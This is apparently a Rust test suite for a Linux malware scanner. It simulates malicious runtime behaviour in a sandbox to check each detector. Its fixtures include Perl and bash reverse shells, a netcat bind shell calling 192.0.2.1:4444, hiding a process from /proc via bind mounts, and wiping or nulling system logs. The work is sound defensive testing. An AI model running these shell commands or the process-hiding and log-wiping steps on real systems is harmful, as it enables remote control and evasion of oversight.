//! What malware does while it runs, done by harmless programs in a room of their own: each check finds exactly its own,
//! and the healthy program that does nearly the same gives nothing.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::arithmetic_side_effects, clippy::as_conversions, clippy::print_stderr, missing_docs)]

#[path = "common/room.rs"]
mod room;
#[path = "common/scan.rs"]
mod scan;

use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use nix::libc;
use room::{Room, detail, found};
use scan::{Outcome, need_root, scan};

/// Every script of Perl says which process it is when it has done what it does, and stays.
const STAY: &str = "open(F, '>', '/tmp/ready'); print F $$; close(F); sleep 600 while 1;\n";

fn perl(code: &str) -> String {
    format!("use Socket; $| = 1;\n{code}\n{STAY}")
}

/// The other end of a shell's connection: its first command is to say that it obeys.
const ORDERS: &str = r"syswrite(S, 'echo $$ >/tmp/ready' . qq(\n)); sleep 600 while 1;";
const PEER: &str = r"use Socket; socket(L, PF_INET, SOCK_STREAM, 0); setsockopt(L, SOL_SOCKET, SO_REUSEADDR, 1);
    bind(L, sockaddr_in(4444, inet_aton('192.0.2.1'))) or die; listen(L, 1);
    open(F, '>', '/tmp/ready'); print F $$; close(F);";
const CONNECT: &str = r"use Socket; socket(S, PF_INET, SOCK_STREAM, 0);
    until (connect(S, sockaddr_in(4444, inet_aton('192.0.2.1')))) { select(undef, undef, undef, 0.02); }";
/// Runs the rest of the command line with the socket as its input and output.
const BECOME: &str = r"open(STDIN, '<&S'); open(STDOUT, '>&S'); exec(@ARGV); die;";
/// Runs it on two pipes and hands on what comes from the socket.
const RELAY: &str = r"pipe(IN, TO); pipe(FROM, OUT);
    if (!fork) { open(STDIN, '<&IN'); open(STDOUT, '>&OUT'); exec(@ARGV); die; }
    close(IN); close(OUT);
    while (sysread(S, $line, 4096)) { syswrite(TO, $line); } sleep 600 while 1;";
/// The same on a pair of local sockets, as socat does it.
const PAIR: &str = r"socketpair(OURS, THEIRS, AF_UNIX, SOCK_STREAM, PF_UNSPEC);
    if (!fork) { open(STDIN, '<&THEIRS'); open(STDOUT, '>&THEIRS'); exec(@ARGV); die; }
    close(THEIRS); while (sysread(S, $line, 4096)) { syswrite(OURS, $line); } sleep 600 while 1;";
/// Pipes of a program without any internet socket.
const PIPES: &str = r"pipe(IN, TO); pipe(FROM, OUT);
    if (!fork) { open(STDIN, '<&IN'); open(STDOUT, '>&OUT'); exec(@ARGV); die; }
    close(IN); close(OUT); syswrite(TO, 'echo $$ >/tmp/ready' . qq(\n)); sleep 600 while 1;";

/// A room with those scripts; `gwbot` is a program that nobody knows, `gwdaemon` one of a package.
fn with_shells() -> Room {
    Room::new()
        .file("/srv/listen.pl", &format!("{PEER} accept(S, L); {ORDERS}"))
        .file("/srv/order.pl", &format!("{CONNECT} {ORDERS}"))
        .file("/srv/reverse.pl", &format!("{CONNECT} {BECOME}"))
        .file("/srv/bind.pl", &format!("{PEER} accept(S, L); {BECOME}"))
        .file("/srv/relay.pl", &format!("{CONNECT} {RELAY}"))
        .file("/srv/pair.pl", &format!("{CONNECT} {PAIR}"))
        .file("/srv/pipes.pl", PIPES)
        .file("/srv/status.sh", "read order\necho $$ >/tmp/ready\nread x\n")
        .program("/srv/gwbot", "/usr/bin/perl")
        .program("/srv/gwdaemon", "/usr/bin/perl")
        .owns("/srv/gwdaemon")
        .owns("/usr/bin/script")
}

const UNOWNED_BOT: &str = "exe-unowned notice /srv/gwbot";

fn shell() -> String {
    let real = std::fs::canonicalize("/bin/sh").unwrap();
    format!("socket-shell infected {}", real.display())
}

/// What the first look sees, what the last one sees, and no look between them.
#[track_caller]
fn before_and_after(looks: &[Outcome]) -> (Vec<String>, Vec<String>) {
    let [first, last] = looks else { panic!("{} looks", looks.len()) };
    (found(first), found(last))
}

#[test]
fn a_reverse_shell() {
    let room = with_shells();
    for argv in ["/bin/sh", "/bin/sh -i", "/bin/busybox sh"] {
        let looks = room.run(&format!(
            "plant perl /srv/listen.pl; peer=$pid; plant perl /srv/reverse.pl {argv}; look; gone $pid $peer; look"
        ));
        let expected = match argv {
            "/bin/busybox sh" => "socket-shell infected /usr/bin/busybox".to_owned(),
            _ => shell(),
        };
        assert_eq!(before_and_after(&looks), (vec![expected], vec![]), "{argv}");
        assert_eq!(looks[0].findings[0]["remote"], "192.0.2.1:4444");
        assert_eq!(looks[0].status, 2);
        assert_ne!(looks[1].status, 2);
    }
}

#[test]
fn a_reverse_shell_that_the_shell_itself_made() {
    let room = with_shells().owns("/bin/bash");
    let looks = room.run(
        "plant perl /srv/listen.pl; peer=$pid
        plant bash -c 'bash -i >&/dev/tcp/192.0.2.1/4444 0>&1; :'; look; gone $pid $peer; sleep 0.2; look",
    );
    let bash = std::fs::canonicalize("/bin/bash").unwrap();
    let expected = vec![format!("socket-shell infected {}", bash.display())];
    assert_eq!(before_and_after(&looks), (expected, vec![]));
}

#[test]
fn a_bind_shell() {
    let room = with_shells();
    let looks = room.run(
        "plant perl /srv/bind.pl /bin/sh; shell=$pid; plant perl /srv/order.pl; look; gone $pid $shell; look",
    );
    assert_eq!(before_and_after(&looks), (vec![shell()], vec![]));
    let looks = room.run(
        "busybox nc -l -p 4444 -e /bin/sh >/out/said 2>&1 & shell=$!; plant perl /srv/order.pl; look; gone $pid $shell; look",
    );
    assert_eq!(before_and_after(&looks), (vec![shell()], vec![]), "nc -e");
}

#[test]
fn a_shell_behind_a_relay() {
    let room = with_shells();
    let run = |relay: &str, argv: &str| {
        let looks = room.run(&format!(
            "plant perl /srv/listen.pl; peer=$pid; plant {relay} {argv}; look; gone $pid $peer; sleep 0.2; look"
        ));
        before_and_after(&looks)
    };
    let accused = || (vec![UNOWNED_BOT.into(), shell()], vec![]);
    assert_eq!(run("/srv/gwbot", "/srv/relay.pl /bin/sh"), accused());
    assert_eq!(run("/srv/gwbot", "/srv/pair.pl /bin/sh -i"), accused());
    let perl = (vec![shell()], vec![]);
    assert_eq!(run("/usr/bin/perl", "/srv/relay.pl /bin/sh"), perl, "an interpreter relays for anybody");
    // A system daemon's shell without a script: seen, and milder.
    let mild = (vec![shell().replace("infected", "suspicious")], vec![]);
    assert_eq!(run("/srv/gwdaemon", "/srv/relay.pl /bin/sh"), mild);
}

#[test]
fn shells_that_only_look_like_a_strangers() {
    let room = with_shells()
        .file("/etc/inetd.conf", "# status\nstatus stream tcp nowait root /bin/sh sh /srv/status.sh\n");
    let plain = |script: &str| {
        let looks = room.run(script);
        let [look] = &looks[..] else { panic!("{} looks", looks.len()) };
        found(look)
    };
    let peer = "plant perl /srv/listen.pl;";
    let inetd = format!("{peer} plant perl /srv/reverse.pl /bin/sh /srv/status.sh; look");
    assert_eq!(plain(&inetd), [""; 0], "a service of inetd");
    let terminal = format!("{peer} plant perl /srv/relay.pl script -q -c /bin/sh /dev/null; look");
    assert_eq!(plain(&terminal), [""; 0], "a session with a terminal, as of an SSH daemon");
    assert_eq!(
        plain("plant perl /srv/pipes.pl /bin/sh; look"),
        [""; 0],
        "pipes of a program without any socket"
    );
    let command = format!(
        "{peer} plant /srv/gwdaemon /srv/relay.pl /bin/sh -c 'read order; echo $$ >/tmp/ready; read x; :'; look"
    );
    assert_eq!(plain(&command), [""; 0], "a command of a system daemon");
}

#[test]
fn a_service_that_inetd_does_not_name() {
    let room = with_shells();
    let looks =
        room.run("plant perl /srv/listen.pl; plant perl /srv/reverse.pl /bin/sh /srv/status.sh; look");
    // Its parent is the first process, a shell, which serves nobody.
    assert_eq!(found(&looks[0]), [shell().replace("infected", "suspicious")]);
}

/// `SO_ATTACH_FILTER` (socket(7)) of two instructions: none of the packets is wanted.
fn packet_socket() -> String {
    perl(&format!(
        r#"socket(P, {}, SOCK_RAW, unpack("S", pack("n", 3))) or die "socket: $!";
        my $code = pack("SCCLSCCL", 0x20, 0, 0, 0, 0x06, 0, 0, 0);
        setsockopt(P, SOL_SOCKET, {}, pack("Sx!8P", 2, $code)) or die "filter: $!";"#,
        libc::AF_PACKET,
        libc::SO_ATTACH_FILTER
    ))
}

#[test]
fn a_packet_socket_with_a_filter() {
    let room = Room::new().file("/srv/packets.pl", &packet_socket()).program("/srv/gwbot", "/usr/bin/perl");
    let looks = room.run("plant /srv/gwbot /srv/packets.pl; look; gone $pid; look");
    let expected = vec![UNOWNED_BOT.into(), "raw-socket suspicious /srv/gwbot".into()];
    assert_eq!(before_and_after(&looks), (expected, vec![]));
    let text = detail(&looks[0], "raw-socket");
    assert!(text.starts_with("a packet socket, protocol 0x0003"), "{text}");
    // The kernel says so only if it has packet_diag.
    assert!(text.contains("with a BPF filter of 2 instructions"), "{text}");

    let looks = room.run("plant /srv/gwbot /srv/packets.pl; rm /srv/gwbot; look; gone $pid; look");
    let expected = vec!["exe-deleted suspicious /srv/gwbot".into(), "raw-socket infected /srv/gwbot".into()];
    assert_eq!(before_and_after(&looks), (expected, vec![]), "a removed program");
}

#[test]
fn a_packet_socket_whose_holder_may_be_outside() {
    let room = Room::new().file("/srv/packets.pl", &packet_socket()).owns("/usr/bin/unshare");
    // Processes that are born in a pid namespace of their own do not see who was there before.
    let looks = room.run(
        "plant perl /srv/packets.pl
        enter='mount -t proc proc /proc && exec /gatewatch scan -v --format json'
        status=0
        unshare --pid --mount --propagation unchanged --fork sh -c \"$enter\" </dev/null >/out/0.json 2>/out/0.err || status=$?
        echo $status >/out/0.status",
    );
    // The holder may be outside of such a namespace, so nobody is accused; tests/live.rs has one without a holder.
    assert_eq!(found(&looks[0]), [""; 0]);
    let (looked, why) = looks[0].looked("raw-socket");
    assert!(looked == "partly" && why.contains("pid namespace"), "{looked}: {why}");
}

#[test]
fn programs_that_need_raw_sockets() {
    let room = Room::new()
        .file("/srv/packets.pl", &packet_socket())
        .program("/srv/tcpdump", "/usr/bin/perl")
        .program("/srv/gwdaemon", "/usr/bin/perl")
        .owns("/srv/tcpdump")
        .owns("/srv/gwdaemon");
    let looks = room.run(
        "ip link add veth0 type veth peer name veth1; ip link set veth0 up; ip link set veth1 up
        ip address add 192.0.2.1/24 dev veth0
        busybox udhcpc -f -i veth1 -s /bin/true >/dev/null 2>&1 &
        busybox ping 192.0.2.9 >/dev/null 2>&1 &
        plant /srv/gwdaemon /srv/packets.pl
        until [ $(grep -c . /proc/net/packet) -gt 2 ] && [ $(grep -c . /proc/net/raw) -gt 1 ]; do sleep 0.05; done
        look; plant /srv/tcpdump /srv/packets.pl; look",
    );
    assert_eq!(found(&looks[0]), [""; 0], "a DHCP client, ping, a daemon of a package");
    assert_eq!(looks[0].looked("raw-socket"), ("yes", ""));
    assert_eq!(found(&looks[1]), ["raw-socket notice /srv/tcpdump"], "a sniffer of a package");
}

/// A file that is held open; `+<` is for reading and writing (perlfunc, open).
fn holding() -> Room {
    Room::new()
        .file("/srv/hold.pl", &perl("open(H, $ARGV[0], $ARGV[1]) or die $!;"))
        .program("/srv/gwbot", "/usr/bin/perl")
        .program("/srv/mtd", "/usr/bin/perl")
        .program("/srv/watchdogd", "/usr/bin/perl")
}

#[test]
fn a_stolen_watchdog() {
    let room = holding();
    let hold = |program: &str| {
        format!(": >/dev/watchdog; plant {program} /srv/hold.pl '+<' /dev/watchdog; look; gone $pid; look")
    };
    let looks = room.run(&hold("/srv/gwbot"));
    let expected = vec![UNOWNED_BOT.into(), "watchdog-stolen infected /srv/gwbot".into()];
    assert_eq!(before_and_after(&looks), (expected, vec![]));
    assert_eq!(detail(&looks[0], "watchdog-stolen"), "it holds /dev/watchdog open");

    let looks = room.owns("/srv/watchdogd").run(&hold("/srv/watchdogd"));
    assert_eq!(before_and_after(&looks), (vec![], vec![]), "a watchdog of a package");
    let looks = holding()
        .run(": >/dev/watchdog; sleep 600 9</dev/watchdog & pid=$!; sleep 0.1; look; gone $pid; look");
    assert_eq!(before_and_after(&looks), (vec![], vec![]), "whatever a package has");
    let looks = holding().without_packages().run(&hold("/srv/watchdogd"));
    assert_eq!(before_and_after(&looks), (vec![], vec![]), "a known name, and no lists");
}

#[test]
fn a_watchdog_that_was_upgraded() {
    let room = holding().owns("/srv/watchdogd");
    let looks = room.run(
        ": >/dev/watchdog; plant /srv/watchdogd /srv/hold.pl '+<' /dev/watchdog
        cp /srv/watchdogd /srv/new; mv /srv/new /srv/watchdogd; look",
    );
    assert_eq!(found(&looks[0]), [""; 0]);
}

#[test]
fn memory_that_is_run_and_belongs_to_no_file() {
    // mmap(2): address, length, protection, flags, file, offset.
    let map = format!(
        r#"sub mapped {{ my ($protection, $flags, $file) = @_;
            my $at = syscall({}, 0, 8192, $protection, $flags, $file, 0);
            die "mmap: $!" if $at == -1; }}"#,
        libc::SYS_mmap
    );
    let (all, code) =
        (libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC, libc::PROT_READ | libc::PROT_EXEC);
    let none = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS;
    let private = libc::MAP_PRIVATE;
    let anonymous = perl(&format!("{map} mapped({all}, {none}, -1);"));
    let only_code = perl(&format!("{map} mapped({code}, {none}, -1);"));
    let file = format!(
        "{map} sub of {{ open(H, '<', $_[0]) or die; mapped({code}, {private}, fileno(H)); close(H); }}"
    );
    let removed = perl(&format!("{file} of('/tmp/x.so'); unlink('/tmp/x.so');"));
    let compiler = perl(&format!("{file} of('/srv/libluajit-5.1.so.2'); mapped({all}, {none}, -1);"));
    let room = Room::new()
        .file("/srv/anonymous.pl", &anonymous)
        .file("/srv/code.pl", &only_code)
        .file("/srv/removed.pl", &removed)
        .file("/srv/compiler.pl", &compiler)
        .file("/srv/libluajit-5.1.so.2", &"x".repeat(9000))
        .program("/srv/gwdaemon", "/usr/bin/perl")
        .owns("/srv/gwdaemon")
        .program("/srv/luajit", "/usr/bin/perl")
        .owns("/srv/luajit");
    let accused = || (vec!["exec-anonymous suspicious /srv/gwdaemon".into()], vec![]);
    let looks = room.run("plant /srv/gwdaemon /srv/anonymous.pl; look; gone $pid; look");
    assert_eq!(before_and_after(&looks), accused());
    assert!(
        detail(&looks[0], "exec-anonymous").ends_with("can be written and run: 1"),
        "{}",
        detail(&looks[0], "exec-anonymous")
    );
    let looks = room.run(
        "cp /srv/libluajit-5.1.so.2 /tmp/x.so; plant /srv/gwdaemon /srv/removed.pl; look; gone $pid; look",
    );
    assert_eq!(before_and_after(&looks), accused());
    assert!(detail(&looks[0], "exec-anonymous").contains("/tmp/x.so"));
    let looks = room.run(
        "plant /srv/gwdaemon /srv/code.pl; plant /srv/gwdaemon /srv/compiler.pl; plant /srv/luajit /srv/anonymous.pl; look",
    );
    assert_eq!(found(&looks[0]), [""; 0], "code that is not written to, a library that compiles, LuaJIT");
}

#[test]
fn a_process_that_another_one_traces() {
    // ptrace(2): PTRACE_SEIZE stops nobody.
    let code = format!(
        r#"syscall({}, {}, $ARGV[0] + 0, 0, 0) == 0 or die "ptrace: $!";"#,
        libc::SYS_ptrace,
        libc::PTRACE_SEIZE
    );
    let room = Room::new()
        .file("/srv/trace.pl", &perl(&code))
        .program("/srv/gwbot", "/usr/bin/perl")
        .owns("/usr/bin/strace");
    let looks =
        room.run("sleep 600 & traced=$!; plant /srv/gwbot /srv/trace.pl $traced; look; gone $pid; look");
    let expected = vec![UNOWNED_BOT.into(), "traced suspicious /usr/bin/sleep".into()];
    assert_eq!(before_and_after(&looks), (expected, vec![]));
    let text = detail(&looks[0], "traced");
    assert!(text.ends_with("(gwbot) traces it, program gwbot"), "{text}");

    let looks = room.run(
        "sleep 600 & traced=$!; strace -o /tmp/trace -p $traced >/dev/null 2>&1 & tracer=$!
        until grep -q 'TracerPid:.[1-9]' /proc/$traced/status; do sleep 0.02; done
        look; gone $tracer; look",
    );
    assert_eq!(before_and_after(&looks), (vec!["traced notice /usr/bin/sleep".into()], vec![]));
}

/// A `/proc` that leaves one process out, as a rootkit's would.
const FILTER: &str = r"
mkdir /srv/real /srv/filtered
mount --rbind /proc /srv/real
mount -t tmpfs tmpfs /srv/filtered
for name in $(ls /srv/real); do
    from=/srv/real/$name to=/srv/filtered/$name
    [ $name != $hidden ] && [ -e $from ] && [ ! -h $from ] || continue
    if [ -d $from ]; then mkdir $to; else : >$to; fi
    mount --bind $from $to
done
ln -s /srv/real/self /srv/real/thread-self /srv/filtered
ln -s self/net self/mounts /srv/filtered
mount --rbind /srv/filtered /proc
";

#[test]
fn a_process_that_proc_does_not_list() {
    let room = Room::new();
    let looks = room.run(&format!(
        "sleep 600 & hidden=$!; sleep 600 & look; echo $hidden >/out/hidden; {FILTER}
        look --only process-hidden; gone $hidden; look --only process-hidden"
    ));
    let hidden: u32 = std::fs::read_to_string(room.at("out/hidden")).unwrap().trim().parse().unwrap();
    assert_eq!(found(&looks[0]), [""; 0], "before it is hidden");
    let [row] = &looks[1].findings[..] else { panic!("{:?}", looks[1]) };
    assert_eq!(
        (&row["check"], &row["severity"], &row["pid"]),
        (&"process-hidden".into(), &"infected".into(), &hidden.into())
    );
    assert_eq!(looks[1].status, 2);
    assert_eq!(found(&looks[2]), [""; 0], "after its end");
}

/// Group 0 sees all that `hidepid=2` hides (proc(5), `gid`), so these have another.
#[test]
fn processes_that_a_user_may_not_see_are_not_hidden() {
    let looks = Room::new().owns("/usr/bin/setpriv").run(
        "sleep 600 & mount -o remount,hidepid=2 /proc; look
        as='setpriv --reuid 65534 --regid 65534 --clear-groups'; look --only process-hidden",
    );
    assert_eq!(found(&looks[0]), [""; 0], "root sees all");
    assert_eq!(looks[0].looked("process-hidden"), ("yes", ""));
    assert_eq!(found(&looks[1]), [""; 0], "a user");
    let (looked, why) = looks[1].looked("process-hidden");
    assert!(looked != "yes" && why.contains("root"), "{looked}: {why}");
}

/// As a service runs that was given the fewest of root's rights.
#[test]
fn processes_that_a_weak_root_may_not_see_are_not_hidden() {
    let looks = Room::new().owns("/usr/bin/setpriv").run(
        "sleep 600 & mount -o remount,hidepid=2 /proc
        as='setpriv --regid 65534 --clear-groups --bounding-set -sys_ptrace --inh-caps -sys_ptrace'
        look --only process-hidden; mount -o remount,hidepid=4 /proc
        as='setpriv --bounding-set -sys_ptrace --inh-caps -sys_ptrace'; look --only process-hidden",
    );
    for (outcome, option) in looks.iter().zip(["hidepid=2", "hidepid=4"]) {
        assert_eq!(found(outcome), [""; 0], "{option}");
        assert_ne!(outcome.looked("process-hidden").0, "yes", "{option}");
    }
}

#[test]
fn threads_and_processes_that_come_and_go_are_not_hidden() {
    need_root();
    let over = Arc::new(AtomicBool::new(false));
    let threads: Vec<_> = (0..200)
        .map(|number| {
            let over = Arc::clone(&over);
            thread::spawn(move || {
                while !over.load(Ordering::SeqCst) {
                    // Two of them start processes and threads all the time.
                    match number {
                        0 => drop(Command::new("/bin/true").status()),
                        1 => thread::spawn(|| thread::sleep(Duration::from_millis(3))).join().unwrap(),
                        _ => thread::sleep(Duration::from_millis(50)),
                    }
                }
            })
        })
        .collect();
    let outcomes: Vec<Outcome> = (0..3).map(|_| scan(["--only", "process-hidden"])).collect();
    over.store(true, Ordering::SeqCst);
    threads.into_iter().for_each(|thread| thread.join().unwrap());
    for outcome in outcomes {
        assert_eq!((outcome.short(), outcome.status), (vec![], 0));
        assert_eq!(outcome.looked("process-hidden").0, "yes");
    }
}

#[test]
fn a_log_that_was_stopped_or_wiped() {
    let machine = || {
        Room::new()
            .program("/srv/init", "/bin/sh")
            .owns("/srv/init")
            .first("/srv/init")
            .file("/srv/idle.pl", &perl(""))
            .program("/srv/logd", "/usr/bin/perl")
            .owns("/srv/logd")
            .file("/etc/rc.d/S12log", "#!/bin/sh\nexit 0\n")
            .owns("/etc/rc.d/S12log")
    };
    let stopped = || vec!["logging-stopped suspicious /etc/rc.d/S12log".to_owned()];
    let looks = machine().run("plant /srv/logd /srv/idle.pl; look; gone $pid; look");
    assert_eq!(before_and_after(&looks), (vec![], stopped()), "its daemon was ended");
    let looks = machine().run(
        "plant /srv/logd /srv/idle.pl; echo >/var/log/wtmp; look; rm /var/log/wtmp; : >/var/log/wtmp; look",
    );
    assert_eq!(before_and_after(&looks), (vec!["logging-stopped suspicious /var/log/wtmp".into()], vec![]));
    let looks = machine().run(
        "plant /srv/logd /srv/idle.pl; ln -s /dev/null /var/log/messages; look; rm /var/log/messages; look",
    );
    assert_eq!(
        before_and_after(&looks),
        (vec!["logging-stopped suspicious /var/log/messages".into()], vec![])
    );
    // A container has neither, and misses nothing.
    let room = Room::new().file("/etc/rc.d/S12log", "#!/bin/sh\nexit 0\n").owns("/etc/rc.d/S12log");
    let looks = room.run("look");
    assert_eq!(found(&looks[0]), [""; 0]);
    assert_eq!(looks[0].looked("logging-stopped").0, "na");
}

#[test]
fn flash_memory_that_can_be_written_to() {
    let hold = |program: &str, mode: &str| {
        format!(": >/dev/mtd0; plant {program} /srv/hold.pl '{mode}' /dev/mtd0; look; gone $pid; look")
    };
    let looks = holding().run(&hold("/srv/gwbot", "+<"));
    let expected = vec![UNOWNED_BOT.into(), "firmware-written suspicious /srv/gwbot".into()];
    assert_eq!(before_and_after(&looks), (expected, vec![]));
    assert_eq!(detail(&looks[0], "firmware-written"), "it holds /dev/mtd0 open for writing");
    let looks = holding().run(&hold("/srv/gwbot", "<"));
    assert_eq!(before_and_after(&looks), (vec![UNOWNED_BOT.into()], vec![]), "only read");
    let looks = holding().owns("/srv/mtd").run(&hold("/srv/mtd", "+<"));
    assert_eq!(before_and_after(&looks), (vec![], vec![]), "mtd of a package");
    let looks = holding().run(&hold("perl", "+<"));
    let perl = std::fs::canonicalize("/usr/bin/perl").unwrap();
    let expected = vec![format!("firmware-written notice {}", perl.display())];
    assert_eq!(before_and_after(&looks), (expected, vec![]), "a program that writes whatever it is told");
}

#[test]
fn an_upgrade_that_an_odd_program_started() {
    let room = Room::new()
        .file("/usr-sysupgrade/sysupgrade", "echo $$ >/tmp/ready\nread x\n")
        .file(
            "/srv/start.pl",
            r#"pipe(IN, TO); if (!fork) { open(STDIN, "<&IN"); exec(@ARGV); } sleep 600 while 1;"#,
        )
        .program("/srv/gwbot", "/usr/bin/perl")
        .program("/srv/gwdaemon", "/usr/bin/perl")
        .owns("/srv/gwdaemon");
    let run = |program: &str| {
        let script = "/srv/start.pl /bin/sh /usr-sysupgrade/sysupgrade";
        found(&room.run(&format!("plant {program} {script}; look"))[0])
    };
    let accused = shell().replace("socket-shell infected", "firmware-written suspicious");
    assert_eq!(run("/srv/gwbot"), [UNOWNED_BOT.to_owned(), accused]);
    assert_eq!(run("/srv/gwdaemon"), [""; 0]);
}
